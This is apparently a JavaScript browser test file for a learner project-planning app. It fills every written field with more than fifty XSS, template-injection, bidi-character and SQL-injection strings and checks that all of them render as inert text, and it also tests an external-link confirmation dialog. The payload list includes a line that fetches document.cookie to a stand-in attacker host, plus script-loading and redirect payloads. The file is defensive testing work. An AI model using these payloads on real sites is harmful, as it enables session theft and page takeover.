// What somebody wrote is text, whatever it looks like: nothing of it runs, leads away by itself or draws over the page.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { asFile, choose, file, heading } from './filing.mjs';
import { isStarted, journey } from './support.mjs';
import { sample } from './stored.mjs';

const SAMPLE = JSON.parse(readFileSync(new URL('../../model/tests/fixtures/sample-2.json', import.meta.url), 'utf8')).payload;
/** What goes at import because it hides or turns text (R5.5). */
const HIDDEN = /[\u202a-\u202e\u2066-\u2069\u200b\ufeff]/g;

const ATTACKS = [
  // Scripts.
  '<script>PWN=1</script>', '</textarea><script>PWN=1</script>', '</script><script>PWN=1</script>', '<ScRiPt data-pwn>PWN=1</sCrIpT>', '<script src="https://evil.example/a.js"></script>',
  '"><script>PWN=1</script>', '<script>fetch("https://evil.example/?"+document.cookie)</script>', '<scr<script>ipt>PWN=1</scr</script>ipt>', '&lt;script&gt;PWN=1&lt;/script&gt;',
  // Event handlers.
  '<img src=x onerror=PWN=1 data-pwn>', '<svg onload=PWN=1 data-pwn>', '<body onload=PWN=1>', '" onfocus="PWN=1" autofocus data-pwn="', "' onmouseover='PWN=1", '<input autofocus onfocus=PWN=1 data-pwn>', '<details open ontoggle=PWN=1 data-pwn>',
  '<video><source onerror=PWN=1 data-pwn></video>', '<x-pwn onclick=PWN=1>press</x-pwn>', '<marquee onstart=PWN=1 data-pwn>', '<select autofocus onfocus=PWN=1 data-pwn>',
  // Links and frames.
  'javascript:PWN=1', 'JaVaScRiPt:PWN=1', '<a href="javascript:PWN=1" data-pwn>here</a>', 'data:text/html,<script>PWN=1</script>', '<iframe src="javascript:PWN=1" data-pwn></iframe>', '<iframe srcdoc="<script>PWN=1</script>" data-pwn></iframe>',
  '<base href="https://evil.example/" data-pwn>', '<meta http-equiv="refresh" content="0;url=https://evil.example/" data-pwn>', '<form action="https://evil.example/" data-pwn><button>go</button></form>', '<object data="javascript:PWN=1" data-pwn></object>', '[here](javascript:PWN=1)',
  // Characters that turn the direction of what follows, or hide.
  'abc\u202eexe.gpj', '\u2066left\u2069 \u202bright\u202c', 'zero\u200bwidth\ufeffspace', 'שלום <b data-pwn>עולם</b>',
  // Templates.
  '{{constructor.constructor("PWN=1")()}}', '${PWN=1}', '<%= PWN=1 %>', '#{PWN=1}', '{name} {n} {what} {host}', '[[${PWN=1}]]', '%s %n %x', '__proto__', 'constructor',
  // Style.
  '<style data-pwn>*{display:none}</style>', '<link rel=stylesheet href="https://evil.example/a.css" data-pwn>', '<p style="position:fixed;inset:0" data-pwn>over</p>', '}*{display:none}', 'expression(PWN=1)', ';background:url(https://evil.example/a.png)',
  // Long words, and what ends other languages' texts.
  'W'.repeat(400), 'ﷺ'.repeat(40), `a${'\u0301'.repeat(60)}`, "'; DROP TABLE projects;--", '<!--', ']]>', '\\"};PWN=1;//',
];

/** The fields in which people write, by name. */
const WRITTEN = new Set(`agreements alt answer because blocked change compliment credit description did display_name done_means drop evidence_plan
  focus glow grow if_then keep learned_about_me levels look_fors name new_question next next_step note noticed obstacle outcome parts place
  prediction prediction_check reach_plan reason response_note result_note role script statement target teaching_point text title topic value
  where who who_came why why_me why_world`.split(/\s+/));

/** Puts the attacks, one after the other, in place of everything that is written; gives what was put where. */
function attack(value, put, path = '', field = '') {
  if (typeof value === 'string') return value && WRITTEN.has(field) ? put(path) : value;
  if (Array.isArray(value)) return value.map((one, at) => attack(one, put, `${path}.${at}`, field));
  if (value === null || typeof value !== 'object') return value;
  return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, attack(one, put, `${path}.${name}`, name)]));
}

const at = (value, path) => path.split('.').slice(1).reduce((part, name) => part?.[name], value);

const SCREENS = ['', 'growth', 'me', 'settings', 'bin', 'keep', 'open', 'new', 'who', 'start', 'hello', ...['today', ...Array.from({ length: 10 }, (_, day) => `today/${day + 1}`), 'card', 'plan',
  'plan/you', 'plan/question', 'plan/know', 'plan/choices', 'plan/goals', 'plan/tasks', 'plan/check', 'plan/smaller', 'pitch', 'feedback', 'feedback/new', 'finish', 'next', 'earlier'].map((page) => `p/prj-2/${page}`), 'print/plan/prj-2'];

/** What must not be on a page, and all that is written there. */
const looked = (page) => page.evaluate(() => ({
  ran: 'PWN' in globalThis,
  made: document.querySelectorAll('[data-pwn], x-pwn, iframe, object, base, marquee, body script, main style, [style*=fixed], [onerror], [onload], [onfocus], [onclick], [onmouseover]').length,
  links: [...document.links].map((link) => link.protocol).filter((protocol) => !/^(https?|blob):$/.test(protocol)),
  text: [document.body.textContent, ...[...document.querySelectorAll('input, textarea')].map((box) => box.value)].join('\n'),
  isWide: document.documentElement.scrollWidth > innerWidth,
}));

journey('more than fifty attacks in every text of a project are text on every screen, and nothing else', { route: '#/open' }, async (desk) => {
  const { page, url, say } = desk;
  const dialogs = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    dialog.dismiss();
  });
  const places = [];
  const payload = attack(SAMPLE, (path) => {
    // Each stands in places of several kinds.
    const text = ATTACKS[(places.length * 11 + Math.floor(places.length / ATTACKS.length) * 5) % ATTACKS.length];
    places.push([path, text]);
    return text;
  });
  // The question is its last version.
  const question = payload.projects[0].driving_question;
  question.text = question.versions.at(-1).text;
  places.find(([path]) => path === '.projects.0.driving_question.text')[1] = question.text;
  payload.learner.display_name = '<b data-pwn>Devon</b>';
  assert.ok(places.length > 3 * ATTACKS.length, `${places.length} texts`);

  await choose(desk, asFile('attack.json', file('learner', payload)));
  await heading(page, say('files.title_look', { name: payload.learner.display_name })).waitFor();
  const before = await looked(page);
  assert.deepEqual([before.ran, before.made, before.links], [false, 0, []]);
  await page.getByRole('button', { name: say('files.add'), exact: true }).click();
  await page.waitForURL(/#\/$/);

  // Every text is kept as it was written; only what hides or turns text is gone.
  const kept = await page.evaluate(() => Object.entries(localStorage).find(([key]) => key.endsWith('/prj-2'))[1]);
  const project = JSON.parse(kept).payload;
  const ofProject = places.filter(([path]) => path.startsWith('.projects.0.'));
  const other = ofProject.filter(([path, text]) => at({ projects: [project] }, path) !== text.replace(HIDDEN, ''));
  assert.deepEqual(other, []);

  let seen = '';
  for (const screen of SCREENS) {
    await page.goto(`${url}#/${screen}`);
    await page.reload();
    await isStarted(page);
    await page.waitForFunction(() => [...document.querySelectorAll('#main :is(h1, h2)')].some((one) => one.checkVisibility()));
    const { ran, made, links, text, isWide } = await looked(page);
    assert.deepEqual({ ran, made, links, isWide }, { ran: false, made: 0, links: [], isWide: false }, screen);
    seen += text;
  }
  assert.deepEqual(ATTACKS.map((text) => text.replace(HIDDEN, '')).filter((text) => !seen.includes(text)), [], 'each is read on some screen, letter by letter');
  assert.deepEqual(dialogs, []);
});

journey('a link in what somebody wrote asks before it leads away, and goes back to where one was', { storage: sample(2, ({ project }) => {
  const cycle = project.cycles.at(-1);
  cycle.evidence.push({ ...cycle.evidence[0], id: 'ev-link', title: 'A page', where: 'https://example.org/a?b=c' });
}), now: '2026-10-16T15:00:00Z', route: '#/p/prj-2/today', allowed: [/^another origin: https:\/\/example\.org\//] }, async ({ page, context, say, axe }) => {
  await context.route('https://example.org/**', (route) => route.fulfill({ body: 'elsewhere', contentType: 'text/html' }));
  const link = page.getByRole('link', { name: say('evidence.form.opens', { host: 'example.org' }) });
  assert.equal(await link.getAttribute('rel'), 'noopener noreferrer nofollow');
  await link.focus();
  await page.keyboard.press('Enter');
  const dialog = page.getByRole('dialog', { name: say('evidence.form.leave', { host: 'example.org' }) });
  await dialog.getByText(say('evidence.form.leave_what', { host: 'example.org' })).waitFor();
  assert.equal(context.pages().length, 1);
  await axe();

  // Stay: by its button, and by Escape.
  await dialog.getByRole('button', { name: say('evidence.form.leave_stay') }).focus();
  await page.keyboard.press('Enter');
  await dialog.waitFor({ state: 'detached' });
  await page.waitForFunction(() => document.activeElement?.matches('a[href="https://example.org/a?b=c"]'));
  await page.keyboard.press('Enter');
  await dialog.waitFor();
  await page.keyboard.press('Escape');
  await dialog.waitFor({ state: 'detached' });
  await link.click({ button: 'middle' });
  assert.equal(context.pages().length, 1);

  await link.focus();
  await page.keyboard.press('Enter');
  const go = dialog.getByRole('link', { name: say('evidence.form.leave_go') });
  assert.deepEqual([await go.getAttribute('rel'), await go.getAttribute('referrerpolicy')], ['noopener noreferrer nofollow', 'no-referrer']);
  await go.focus();
  const [elsewhere] = await Promise.all([context.waitForEvent('page'), page.keyboard.press('Enter')]);
  await elsewhere.waitForURL('https://example.org/a?b=c');
  assert.equal(await elsewhere.evaluate(() => globalThis.opener), null);
  await elsewhere.close();
  await dialog.waitFor({ state: 'detached' });
});
